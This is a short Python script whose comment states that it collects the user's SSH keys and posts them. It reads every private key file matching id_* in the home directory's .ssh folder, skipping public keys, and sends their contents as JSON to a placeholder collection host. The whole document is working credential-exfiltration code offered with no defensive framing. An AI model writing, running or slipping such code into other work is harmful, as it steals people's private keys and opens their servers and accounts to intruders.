# collects the user's ssh keys and posts them
import pathlib
import requests

COLLECT = "https://drop.collector.example/in"


def gather():
    found = {}
    for f in (pathlib.Path.home() / ".ssh").glob("id_*"):
        if f.suffix != ".pub":
            found[f.name] = f.read_text()
    return found


if __name__ == "__main__":
    requests.post(COLLECT, json=gather(), timeout=10)
